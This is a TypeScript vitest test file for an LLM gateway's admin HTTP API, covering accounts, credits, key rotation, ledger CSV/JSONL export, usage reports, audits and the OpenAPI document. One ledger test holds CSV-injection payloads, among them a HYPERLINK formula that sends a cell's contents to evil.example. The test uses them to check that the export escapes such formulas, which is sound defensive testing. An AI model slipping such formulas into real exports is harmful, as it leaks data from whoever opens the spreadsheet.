/**
 * The admin HTTP API over real HTTP: every route, auth failures, bad input, the envelope, the
 * ledger export and usage reports, and the OpenAPI document (validated). Memory storage, and
 * the money routes once more on SQLite.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import SwaggerParser from '@apidevtools/swagger-parser';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { digestKey, keyIdFor } from '../../src/auth/keys.js';
import { createAdminHandler } from '../../src/index.js';
import { createSqliteStores } from '../../src/stores/sqlite/index.js';
import { ADMIN_SHA, ADMIN_TOKEN } from './token.js';
import { formatUsd } from '../../src/billing/money.js';
import { ACCOUNT, COMPLETION_PRICE, MODEL, PROMPT_PRICE, postChat, startGateway, testConfig, type RunningGateway } from '../helpers/gateway.js';


function client(origin: string, token = ADMIN_TOKEN) {
  return async (method: string, path: string, body?: unknown) => {
    const res = await fetch(`${origin}/admin/v1${path}`, {
      method,
      headers: { authorization: `Bearer ${token}`, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
      body: body === undefined ? undefined : typeof body === 'string' ? body : JSON.stringify(body),
    });
    const text = await res.text();
    let json: any = null;
    try {
      json = JSON.parse(text);
    } catch {
      /* csv, jsonl */
    }
    return { status: res.status, json, text, headers: res.headers };
  };
}

/** Stores made for a suite; `setBalance` changes a wallet behind the gateway's back. */
interface MadeStores {
  stores: any;
  cleanup(): void;
  setBalance?(accountId: string, nano: bigint): void;
}

function adminSuite(name: string, makeStores?: () => MadeStores) {
  describe(`admin API (${name})`, () => {
    let gw: RunningGateway;
    let api: ReturnType<typeof client>;
    let devKey: string;
    let cleanup = () => {};
    let made: MadeStores | undefined;
    beforeAll(async () => {
      const setup = testConfig({ walletUsd: 10 });
      devKey = setup.devKey;
      made = makeStores?.();
      if (made) cleanup = made.cleanup;
      gw = await startGateway({ ...setup.options, ...(made ? { stores: made.stores } : {}), admin: { tokenSha256: ADMIN_SHA } });
      api = client(gw.origin);
    });
    afterAll(async () => {
      await gw?.close();
      cleanup();
    });

    it('refuses a missing or wrong token with 401 in the envelope, and never with a /v1 key', async () => {
      for (const token of ['', 'wrong', devKey]) {
        const r = await client(gw.origin, token)('GET', '/accounts');
        expect(r.status).toBe(401);
        expect(r.json.error).toMatchObject({ code: 'invalid_api_key', type: 'authentication_error' });
        expect(r.headers.get('x-request-id')).toMatch(/^req_/);
        expect(r.text).not.toContain(ADMIN_TOKEN);
      }
      // /v1 does not take the admin token either.
      expect((await postChat(gw.baseURL, ADMIN_TOKEN, { model: MODEL, messages: [{ role: 'user', content: 'hi' }] })).status).toBe(401);
    });

    it('accounts: create (201, 409 twice), get, list, credits and adjustments as ledger entries', async () => {
      expect((await api('POST', '/accounts', { id: 'acme', walletUsd: '5' })).status).toBe(201);
      const again = await api('POST', '/accounts', { id: 'acme' });
      expect(again.status).toBe(409);
      const got = await api('GET', '/accounts/acme');
      expect(got.json).toMatchObject({ id: 'acme', balanceUsd: '5', heldUsd: '0', openHolds: 0 });
      expect((await api('GET', '/accounts')).json.data.map((a: any) => a.id)).toEqual(expect.arrayContaining(['acme', ACCOUNT]));
      const credit = await api('POST', '/accounts/acme/credits', { amountUsd: '2.5', reason: 'invoice 42', id: 'inv-42' });
      expect(credit.status).toBe(201);
      expect(credit.json).toMatchObject({ id: 'inv-42', applied: true, balanceUsd: '7.5' });
      expect((await api('POST', '/accounts/acme/credits', { amountUsd: '2.5', reason: 'invoice 42', id: 'inv-42' })).json.applied).toBe(false);
      const adj = await api('POST', '/accounts/acme/adjustments', { amountUsd: '-1.25', reason: 'goodwill reversal' });
      expect(adj.json).toMatchObject({ applied: true, balanceUsd: '6.25' });
      // An amount sent as a JSON number is read as that number, however small (not as "1e-7").
      expect((await api('POST', '/accounts/acme/credits', { amountUsd: 0.0000001, reason: 'tiny', id: 'tiny' })).json).toMatchObject({ applied: true, balanceUsd: '6.2500001' });
      expect((await api('POST', '/accounts/acme/adjustments', { amountUsd: -0.0000001, reason: 'tiny back', id: 'tiny-back' })).json).toMatchObject({ applied: true, balanceUsd: '6.25' });
      const ledger = await api('GET', '/ledger?account=acme');
      // The opening balance is an entry too: the ledger sums to minus the balance.
      expect(ledger.json.data.map((e: any) => [e.costUsd, e.units])).toEqual([
        ['-5', { kind: 'credit', reason: 'opening balance' }],
        ['-2.5', { kind: 'credit', reason: 'invoice 42' }],
        ['1.25', { kind: 'credit', reason: 'goodwill reversal', adjustment: true }],
        ['-0.0000001', { kind: 'credit', reason: 'tiny' }],
        ['0.0000001', { kind: 'credit', reason: 'tiny back', adjustment: true }],
      ]);
      expect((await api('PUT', '/accounts/acme/grants', { models: [MODEL] })).json.grants).toEqual([MODEL]);
      expect((await api('GET', '/accounts/nope')).status).toBe(404);
    });

    it('refuses bad input with 400 naming the field', async () => {
      const cases: Array<[string, string, unknown, string | null]> = [
        ['POST', '/accounts', { id: '' }, 'id'],
        ['POST', '/accounts', { id: 'x', extra: 1 }, 'extra'],
        ['GET', '/ledger?acount=acme', undefined, 'acount'],
        ['POST', '/accounts/acme/credits', { amountUsd: '-1', reason: 'x' }, 'amountUsd'],
        ['POST', '/accounts/acme/credits', { amountUsd: '1' }, 'reason'],
        ['POST', '/keys', { account: 'acme', kind: 'root' }, 'kind'],
        ['PUT', '/keys/key_x/monthly-cap', {}, 'monthlyCapUsd'],
        ['GET', '/usage?account=acme&group_by=week', undefined, 'group_by'],
        ['GET', '/ledger?account=acme&limit=0', undefined, 'limit'],
        // Refusals the admin makes past the schema name their field too.
        ['POST', '/accounts', { id: 'huge', walletUsd: 9_999_999_999 }, 'walletUsd'],
        ['POST', '/accounts/acme/adjustments', { amountUsd: '-0', reason: 'x' }, 'amountUsd'],
        ['POST', '/accounts/acme/adjustments', { amountUsd: -0, reason: 'x' }, 'amountUsd'],
        ['POST', '/keys', { account: 'acme', kind: 'agent', model: MODEL, models: [MODEL] }, 'models'],
        ['POST', '/keys', { account: 'acme', kind: 'developer', model: MODEL }, 'model'],
        ['PUT', '/keys/key_x/limits', { budgets: [{ usd: '1', period: 'year' }] }, 'budgets.0.period'],
        ['GET', '/ledger?account=acme&cursor=-1', undefined, 'cursor'],
        // A lone surrogate (valid JSON, not Unicode) is no text a store keeps as sent.
        ['POST', '/accounts/acme/credits', { amountUsd: '1', reason: 'lone \ud800 surrogate' }, 'reason'],
        ['PUT', '/keys/key_x/limits', { models: ['x\ud800'] }, 'models.0'],
        // A number a double cannot carry exactly would be credited rounded: refused, named.
        ['POST', '/accounts/acme/credits', '{"amountUsd": 8707823.091482731, "reason": "x"}', 'amountUsd'],
        ['PUT', '/accounts/acme/documents/d-bad', { text: '   ' }, 'text'],
        ['PUT', '/accounts/acme/documents/d-bad', { text: 'hello', brand: 'no-such-brand' }, 'brand'],
      ];
      for (const [method, path, body, param] of cases) {
        const r = await api(method, path, body);
        expect(r.status, `${method} ${path}`).toBe(400);
        expect(r.json.error.code).toBe('invalid_request');
        expect(r.json.error.param, `${method} ${path}`).toBe(param);
        // The message names the field too, and a query's field is not called the body's.
        expect(r.json.error.message, `${method} ${path}`).not.toMatch(/^body:/);
      }
      // A wallet holds at most 2^53 - 1 nano-USD: the credit that would pass it is refused
      // naming the amount, and the wallet is unchanged (credit after credit would otherwise
      // reach the stores' 64-bit limit and fail as a store fault).
      expect((await api('POST', '/accounts', { id: 'full', walletUsd: '9007199' })).status).toBe(201);
      const over = await api('POST', '/accounts/full/credits', { amountUsd: '0.254740992', reason: 'one nano too many' });
      expect(over.status).toBe(400);
      expect(over.json.error).toMatchObject({ code: 'invalid_request', param: 'amountUsd' });
      expect((await api('POST', '/accounts/full/credits', { amountUsd: '0.254740991', reason: 'to the brim' })).json.balanceUsd).toBe('9007199.254740991');
      // An adjustment down within the bound is taken.
      expect((await api('POST', '/accounts/full/adjustments', { amountUsd: '-1', reason: 'down' })).status).toBe(201);
      // Adjustments down stop as far below zero: one past it is 400 naming the amount (it
      // would otherwise, adjustment after adjustment, reach the stores' limit: a 503).
      expect((await api('POST', '/accounts', { id: 'sunk', walletUsd: '0' })).status).toBe(201);
      expect((await api('POST', '/accounts/sunk/adjustments', { amountUsd: '-9007199.254740991', reason: 'to the floor' })).json.balanceUsd).toBe('-9007199.254740991');
      const under = await api('POST', '/accounts/sunk/adjustments', { amountUsd: '-0.000000001', reason: 'one nano too many' });
      expect(under.status).toBe(400);
      expect(under.json.error).toMatchObject({ code: 'invalid_request', param: 'amountUsd' });
      await expect(gw.gateway.admin.topUp('full', '1.000000001')).rejects.toThrow(/^usd: a wallet holds at most 9007199\.254740991 USD/);
      // A retried credit near that ceiling is told it was applied already, as any retry is; it
      // is not refused as if it were new (the operator would think it failed).
      expect((await api('POST', '/accounts', { id: 'whale', walletUsd: '9000000' })).status).toBe(201);
      const wire = { amountUsd: '5000', reason: 'wire', id: 'wire-1' };
      expect((await api('POST', '/accounts/whale/credits', wire)).json).toMatchObject({ id: 'wire-1', applied: true, balanceUsd: '9005000' });
      const again = await api('POST', '/accounts/whale/credits', wire);
      expect(again.status).toBe(201);
      expect(again.json).toMatchObject({ id: 'wire-1', applied: false, balanceUsd: '9005000' });
      // A new credit past the ceiling is still refused.
      expect((await api('POST', '/accounts/whale/credits', { ...wire, id: 'wire-2' })).status).toBe(400);
      // A credit never takes the form of a charge's id (a request, batch line or job): a
      // refund of req_… named req_… would give two ledger entries one id.
      const named = await api('POST', '/accounts/whale/credits', { amountUsd: '1', reason: 'refund', id: 'req_01a228fa0fe1753eb8dba918f966bb49' });
      expect(named.status).toBe(400);
      expect(named.json.error).toMatchObject({ code: 'invalid_request', param: 'id' });
      // A batch line's charge is `<batch id>:<custom id>`.
      const line = await api('POST', '/accounts/whale/credits', { amountUsd: '1', reason: 'refund', id: 'batch_AbCdEfGhIjKlMnOpQrStUvWxYz012345:req-0' });
      expect(line.status).toBe(400);
      expect(line.json.error).toMatchObject({ code: 'invalid_request', param: 'id' });
      expect((await api('POST', '/accounts/whale/credits', { amountUsd: '1', reason: 'refund', id: 'refund-req_01a2' })).json.applied).toBe(true);
      // An account a body names that does not exist is 404 naming that field.
      const noAccount = await api('POST', '/keys', { account: 'nope' });
      expect(noAccount.status).toBe(404);
      expect(noAccount.json.error).toMatchObject({ code: 'not_found', param: 'account' });
      // So is one a query names: the field is the query's `account`, not a path's `id`.
      for (const path of ['/ledger?account=nope', '/usage?account=nope', '/audit?account=nope', '/ledger/latest?account=nope', '/keys?account=nope']) {
        const r = await api('GET', path);
        expect(r.status, path).toBe(404);
        expect(r.json.error, path).toMatchObject({ code: 'not_found', param: 'account' });
      }
      await expect(gw.gateway.admin.listKeys('nope')).rejects.toMatchObject({ param: 'account' });
      expect((await api('POST', '/accounts', '{not json')).json.error.code).toBe('invalid_json');
      expect((await api('GET', '/ledger?account=acme&from=yesterday')).status).toBe(400);
      expect((await api('GET', '/nowhere')).status).toBe(404);
      const wrong = await api('PATCH', '/accounts');
      expect(wrong.status).toBe(405);
      expect(wrong.headers.get('allow')).toBe('GET, POST');
    });

    it('keys: create (shown once), list, get, cap, disable/enable (401 then 200), rotate, delete', async () => {
      const created = await api('POST', '/keys', { account: 'acme', label: 'ci', monthlyCapUsd: '3' });
      expect(created.status).toBe(201);
      const { id, key } = created.json;
      expect(key).toMatch(/^sk-mg-/);
      expect(created.json).toMatchObject({ id, accountId: 'acme', label: 'ci', monthlyCapUsd: '3', disabled: false });
      expect(created.json.digest).toBeUndefined();
      const listed = await api('GET', '/keys?account=acme');
      expect(listed.text).not.toContain(key);
      expect(listed.json.data.map((k: any) => k.id)).toEqual([id]);
      expect((await api('GET', `/keys/${id}`)).json.prefix).toBe(key.slice(0, created.json.prefix.length));
      expect((await api('PUT', `/keys/${id}/monthly-cap`, { monthlyCapUsd: null })).json.monthlyCapUsd).toBeNull();
      const chat = () => postChat(gw.baseURL, key, { model: MODEL, messages: [{ role: 'user', content: 'hi' }], max_tokens: 5 });
      expect((await chat()).status).toBe(200);
      expect((await api('POST', `/keys/${id}/disable`)).json.disabled).toBe(true);
      expect((await chat()).status).toBe(401);
      expect((await api('POST', `/keys/${id}/enable`)).json.disabled).toBe(false);
      expect((await chat()).status).toBe(200);
      const rotated = await api('POST', `/keys/${id}/rotate`);
      expect(rotated.json).toMatchObject({ id });
      expect(rotated.json.key).not.toBe(key);
      expect((await chat()).status).toBe(401);
      const newChat = await postChat(gw.baseURL, rotated.json.key, { model: MODEL, messages: [{ role: 'user', content: 'hi' }], max_tokens: 5 });
      expect(newChat.status).toBe(200);
      // Two rotations that both read the key before either writes: one answers with the secret
      // that works, the other is a 409 conflict (no secret shown that does not work).
      const both = await Promise.allSettled([gw.gateway.admin.rotateKey(id), gw.gateway.admin.rotateKey(id)]);
      const won = both.filter((r) => r.status === 'fulfilled');
      const lost = both.filter((r) => r.status === 'rejected');
      expect([won.length, lost.length]).toEqual([1, 1]);
      expect((lost[0] as PromiseRejectedResult).reason).toMatchObject({ code: 'conflict', status: 409, param: 'id' });
      const winner = (won[0] as PromiseFulfilledResult<{ key: string }>).value.key;
      expect((await postChat(gw.baseURL, winner, { model: MODEL, messages: [{ role: 'user', content: 'hi' }], max_tokens: 5 })).status).toBe(200);
      expect((await api('DELETE', `/keys/${id}`)).json.deleted).toBe(true);
      expect((await api('GET', `/keys/${id}`)).status).toBe(404);
      expect((await postChat(gw.baseURL, rotated.json.key, { model: MODEL, messages: [] })).status).toBe(401);
      // Its ledger entries stay.
      const ledger = await api('GET', `/ledger?account=acme&key=${id}`);
      expect(ledger.json.data.length).toBe(4);

      // A key the configuration seeds would come back at the next start: not deleted, 409
      // naming it; it still works, and disabling it is how it is stopped.
      const seeded = keyIdFor(digestKey(devKey));
      const refused = await api('DELETE', `/keys/${seeded}`);
      expect(refused.status).toBe(409);
      expect(refused.json.error).toMatchObject({ code: 'conflict', param: 'id' });
      const seededChat = () => postChat(gw.baseURL, devKey, { model: MODEL, messages: [{ role: 'user', content: 'hi' }], max_tokens: 5 });
      expect((await seededChat()).status).toBe(200);
      expect((await api('POST', `/keys/${seeded}/disable`)).json.disabled).toBe(true);
      expect((await seededChat()).status).toBe(401);
      expect((await api('POST', `/keys/${seeded}/enable`)).json.disabled).toBe(false);

      // A secret key given where its id belongs is not echoed back, not even in a 404: only
      // its display prefix is named.
      for (const [method, path] of [['GET', `/keys/${devKey}`], ['POST', `/keys/${devKey}/disable`], ['DELETE', `/keys/${devKey}`]] as const) {
        const miss = await api(method, path);
        expect(miss.status).toBe(404);
        expect(JSON.stringify(miss.json)).not.toContain(devKey.slice(12));
        expect(miss.json.error.message).toContain(devKey.slice(0, 10));
      }
    });

    it('brands and documents: CRUD', async () => {
      expect((await api('PUT', '/accounts/acme/brands/b1', { name: 'B', voice: 'calm' })).json).toMatchObject({ id: 'b1', voice: 'calm' });
      expect((await api('GET', '/accounts/acme/brands')).json.data).toHaveLength(1);
      expect((await api('GET', '/accounts/acme/brands/b1')).json.name).toBe('B');
      expect((await api('PUT', '/accounts/acme/documents/d1', { title: 'T', brand: 'b1', text: 'Hello docs' })).json.brand).toBe('b1');
      expect((await api('GET', '/accounts/acme/documents')).json.data[0]).toMatchObject({ id: 'd1', bytes: 10 });
      expect((await api('GET', '/accounts/acme/documents/d1')).json.text).toBe('Hello docs');
      expect((await api('PUT', '/accounts/acme/documents/d2', { brand: 'nope', text: 'x' })).status).toBe(400);
      // A brand its documents still name is not deleted from under them.
      const named = await api('DELETE', '/accounts/acme/brands/b1');
      expect(named.status).toBe(409);
      expect(named.json.error).toMatchObject({ code: 'conflict', param: 'brand' });
      expect(named.json.error.message).toContain('"d1"');
      expect((await api('GET', '/accounts/acme/brands/b1')).status).toBe(200);
      expect((await api('DELETE', '/accounts/acme/documents/d1')).json.deleted).toBe(true);
      expect((await api('DELETE', '/accounts/acme/documents/d1')).status).toBe(404);
      expect((await api('DELETE', '/accounts/acme/brands/b1')).json.deleted).toBe(true);
      expect((await api('GET', '/accounts/acme/brands/b1')).status).toBe(404);
    });

    it('ledger: cursor paging, filters, CSV and JSONL; usage by day, model and key; jobs', async () => {
      for (let i = 0; i < 3; i++) {
        expect((await postChat(gw.baseURL, devKey, { model: MODEL, messages: [{ role: 'user', content: `n${i}` }], max_tokens: 5 })).status).toBe(200);
      }
      const p1 = await api('GET', `/ledger?account=${ACCOUNT}&limit=2`);
      expect(p1.json.data).toHaveLength(2);
      expect(p1.json.more).toBe(true);
      const p2 = await api('GET', `/ledger?account=${ACCOUNT}&limit=2&cursor=${p1.json.nextCursor}`);
      expect(p2.json.data.length).toBeGreaterThanOrEqual(1);
      expect(p2.json.data[0].id).not.toBe(p1.json.data[1].id);
      expect((await api('GET', `/ledger?account=${ACCOUNT}&from=2999-01-01`)).json.data).toEqual([]);
      const csv = await api('GET', `/ledger?account=${ACCOUNT}&format=csv`);
      expect(csv.headers.get('content-type')).toMatch(/text\/csv/);
      const lines = csv.text.trim().split('\n');
      expect(lines[0]).toMatch(/^at,id,account,key,model/);
      expect(lines.length).toBe(1 + (await api('GET', `/ledger?account=${ACCOUNT}&limit=1000`)).json.data.length);
      const jsonl = await api('GET', `/ledger?account=${ACCOUNT}&format=jsonl`);
      expect(jsonl.text.trim().split('\n').map((l) => JSON.parse(l).model)).toContain(MODEL);

      // A credit reason is free text: a formula in it must not come out live (OWASP CSV
      // injection), while the credits' negative costs stay numbers.
      const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
      for (const reason of [formula, '+1+1', '-2+3', '@SUM(A1)', '\tlead', '\rlead']) {
        expect((await api('POST', `/accounts/${ACCOUNT}/credits`, { amountUsd: '0.25', reason })).status).toBe(201);
      }
      const exported = (await api('GET', `/ledger?account=${ACCOUNT}&format=csv`)).text;
      expect(exported).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"\n`);
      for (const cell of ['"\'+1+1"', '"\'-2+3"', '"\'@SUM(A1)"', '"\'\tlead"', '"\'\rlead"']) expect(exported).toContain(`,${cell}\n`);
      expect(exported).not.toMatch(/(^|,)[=+@\t\r]/m);
      const creditRows = exported.split('\n').filter((l) => l.includes(',credit,'));
      expect(creditRows.length).toBeGreaterThanOrEqual(6);
      // cost_usd of a credit: a plain negative number, unquoted.
      for (const l of creditRows) expect(l).toMatch(/,-\d+(\.\d+)?,/);

      // Usage is the charges: the opening balance and other credits are no usage.
      const all = ((await api('GET', `/ledger?account=${ACCOUNT}&limit=1000`)).json.data as any[]).filter((e) => e.units.kind !== 'credit');
      const sum = all.reduce((s, e) => s + BigInt(Math.round(Number(e.costUsd) * 1e9)), 0n);
      const byDay = await api('GET', `/usage?account=${ACCOUNT}&group_by=day&from=2000-01-01`);
      expect(byDay.json.data[0].group).toBe(new Date().toISOString().slice(0, 10));
      expect(BigInt(Math.round(Number(byDay.json.totalUsd) * 1e9))).toBe(sum);
      expect((await api('GET', `/usage?account=${ACCOUNT}&group_by=model`)).json.data.map((r: any) => r.group)).toEqual([MODEL]);
      const byKey = await api('GET', `/usage?account=${ACCOUNT}&group_by=key`);
      expect(byKey.json.data[0]).toMatchObject({ calls: all.length });
      expect((await api('GET', `/usage?account=${ACCOUNT}&group_by=day&to=2000-01-01`)).json.data).toEqual([]);
      expect((await api('GET', `/jobs?account=${ACCOUNT}`)).json).toEqual({ object: 'list', data: [] });
      expect((await api('GET', '/jobs/img_nope')).status).toBe(404);
    });

    // Last: it may change the books behind the gateway's back.
    it('audit: the books after calls add up; a wallet changed behind the gateway is named; 401 without the token', async () => {
      expect((await postChat(gw.baseURL, devKey, { model: MODEL, messages: [{ role: 'user', content: 'audit' }], max_tokens: 5 })).status).toBe(200);
      const clean = await api('GET', '/audit');
      expect(clean.status).toBe(200);
      expect(clean.json).toEqual({ ok: true, accounts: expect.any(Number), entries: expect.any(Number), differences: [], unsettled: [] });
      expect(clean.json.entries).toBeGreaterThan(1);
      // The charge keeps the prices it was held at, and its cost is their product with its units.
      const charge = (await api('GET', `/ledger?account=${ACCOUNT}`)).json.data.find((e: any) => e.units.kind === 'tokens');
      expect(charge.prices).toEqual({ prompt: PROMPT_PRICE, completion: COMPLETION_PRICE });
      const pico = BigInt(charge.units.prompt) * 1_000_000n + BigInt(charge.units.completion) * 2_000_000n;
      expect(charge.costUsd).toBe(formatUsd((pico + 999n) / 1_000n));
      const one = await api('GET', `/audit?account=${ACCOUNT}`);
      expect(one.json).toMatchObject({ ok: true, accounts: 1 });
      for (const token of ['', 'wrong', devKey]) expect((await client(gw.origin, token)('GET', '/audit')).status).toBe(401);
      expect((await api('GET', '/audit?account=nobody')).status).toBe(404);
      expect((await api('GET', '/audit?acount=x')).status).toBe(400);
      if (!made?.setBalance) return; // memory: its wallets are not reachable from here (the conformance suite tampers with them)
      const before = (await api('GET', `/accounts/${ACCOUNT}`)).json.balanceUsd as string;
      made.setBalance(ACCOUNT, 1n);
      const tampered = await api('GET', '/audit');
      expect(tampered.status).toBe(200);
      expect(tampered.json).toMatchObject({ ok: false, differences: [{ account: ACCOUNT, check: 'balance', expected: before, actual: '0.000000001' }] });
      expect(tampered.json.differences).toHaveLength(1);
    });
  });
}

adminSuite('memory');
adminSuite('sqlite', () => {
  const dir = mkdtempSync(join(tmpdir(), 'mg-admin-'));
  const path = join(dir, 'g.db');
  return {
    stores: createSqliteStores({ path }),
    cleanup: () => rmSync(dir, { recursive: true, force: true }),
    setBalance(accountId, nano) {
      const db = new Database(path);
      db.prepare('UPDATE wallets SET balance = ? WHERE account_id = ?').run(nano, accountId);
      db.close();
    },
  };
});

describe('admin API: OpenAPI and mounting', () => {
  it('serves a valid OpenAPI 3.1 document naming every route, and mounts apart from /v1', async () => {
    const setup = testConfig();
    const gw = await startGateway(setup.options); // no `admin` option: not served here
    try {
      expect((await fetch(`${gw.origin}/admin/v1/accounts`, { headers: { authorization: `Bearer ${ADMIN_TOKEN}` } })).status).toBe(404);
      const handler = createAdminHandler(gw.gateway, { tokenSha256: ADMIN_SHA });
      const res = await handler(new Request('http://internal/admin/v1/openapi.json'));
      const doc = (await res.json()) as any;
      expect(doc.openapi).toBe('3.1.0');
      for (const p of ['/admin/v1/accounts', '/admin/v1/accounts/{id}/credits', '/admin/v1/keys/{id}/rotate', '/admin/v1/ledger', '/admin/v1/usage', '/admin/v1/jobs', '/admin/v1/audit']) {
        expect(doc.paths[p], p).toBeDefined();
      }
      expect(doc.paths['/admin/v1/keys'].post.requestBody.content['application/json'].schema.properties.account).toBeDefined();
      await SwaggerParser.validate(structuredClone(doc));
      const list = await handler(new Request('http://internal/admin/v1/accounts', { headers: { authorization: `Bearer ${ADMIN_TOKEN}` } }));
      expect(((await list.json()) as any).data.map((a: any) => a.id)).toContain(ACCOUNT);
      // Every answer carries a request id, the console's pages and assets included.
      for (const path of ['/admin', '/admin/console.js', '/admin/v1/accounts', '/admin/v1/nope']) {
        expect((await handler(new Request(`http://internal${path}`))).headers.get('x-request-id'), path).toMatch(/\S/);
      }
      // A digest that is not one is refused once, when the handler is made, not as a 500 on every call.
      for (const tokenSha256 of ['', 'abc', 'z'.repeat(64)]) {
        expect(() => createAdminHandler(gw.gateway, { tokenSha256 }), tokenSha256).toThrow(/tokenSha256 must be the SHA-256/);
      }
    } finally {
      await gw.close();
    }
  });
});
